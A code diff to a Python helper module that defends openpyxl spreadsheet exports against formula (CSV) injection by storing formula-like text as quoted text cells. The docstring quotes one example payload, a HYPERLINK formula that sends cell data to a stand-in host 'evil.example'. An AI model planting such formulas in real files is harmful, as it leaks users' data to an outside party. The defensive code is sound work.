@@ -4,7 +4,8 @@ openpyxl stores any string that begins with "=" as a formula, and Excel or WPS w
 calculate it when the file is opened: a progress note reading
 ``=HYPERLINK("http://evil.example/?"&A1, "点击")`` would become a live link that sends
 the sheet's data away (formula or "CSV" injection, OWASP). Every writer of .xlsx calls
-`neutralise_formulas` on each sheet it fills with people's text.
+`neutralise_formulas` on each sheet it fills with people's text, or, for a write-only
+sheet, `safe_row` on each row before appending it.
 """
 from __future__ import annotations
 
@@ -17,17 +18,14 @@ def looks_like_formula(value) -> bool:
     return isinstance(value, str) and value[:1] in FORMULA_TRIGGERS
 
 
-def neutralise_formulas(ws, row: list | None = None) -> int:
-    """Store every text cell that a spreadsheet could take for a formula as plain text
-    with Excel's quote prefix: it is shown and read back exactly as written, never
-    calculated, and stays text when someone edits the cell. Returns the number of cells
-    changed. The system itself writes no formulas.
+def neutralise_formulas(ws) -> int:
+    """Store every text cell of `ws` that a spreadsheet could take for a formula as
+    plain text with Excel's quote prefix: it is shown and read back exactly as written,
+    never calculated, and stays text when someone edits the cell. Returns the number of
+    cells changed. The system itself writes no formulas.
 
-    A write-only sheet (``Workbook(write_only=True)``, for large exports) cannot be read
-    back: pass each `row` of values before appending it to `ws`, and its
-    formula-looking strings are replaced, in place, by such text cells."""
-    if row is not None:
-        return _neutralise_row(ws, row)
+    A write-only sheet (``Workbook(write_only=True)``, for large exports) cannot be
+    walked afterwards: pass each row through `safe_row` before appending it."""
     changed = 0
     for row in ws.iter_rows():
         for cell in row:
@@ -39,9 +37,11 @@ def neutralise_formulas(ws, row: list | None = None) -> int:
 
 
 def safe_row(ws, values) -> list:
-    """`values` ready for ``ws.append``, with formula-like text as quoted text cells;
-    for write-only workbooks (``Workbook(write_only=True)``), whose sheets cannot be
-    walked afterwards by `neutralise_formulas`. Works in the normal mode too."""
+    """`values` ready for ``ws.append``, with formula-like text as quoted text cells
+    (the same treatment as `neutralise_formulas`); for write-only workbooks
+    (``Workbook(write_only=True)``), whose sheets cannot be walked afterwards. Works in
+    the normal mode too. Other values (cells already made among them) are kept as they
+    are."""
     from openpyxl.cell import WriteOnlyCell
 
     out = []
@@ -54,20 +54,6 @@ def safe_row(ws, values) -> list:
         else:
             out.append(value)
     return out
-
-
-def _neutralise_row(ws, row: list) -> int:
-    from openpyxl.cell import WriteOnlyCell
-
-    changed = 0
-    for i, value in enumerate(row):
-        if looks_like_formula(value):
-            cell = WriteOnlyCell(ws, value)
-            cell.data_type = "s"
-            cell.quotePrefix = True
-            row[i] = cell
-            changed += 1
-    return changed
 
 
 def set_default_cell_style(wb, *, font=None, alignment=None, border=None) -> None:
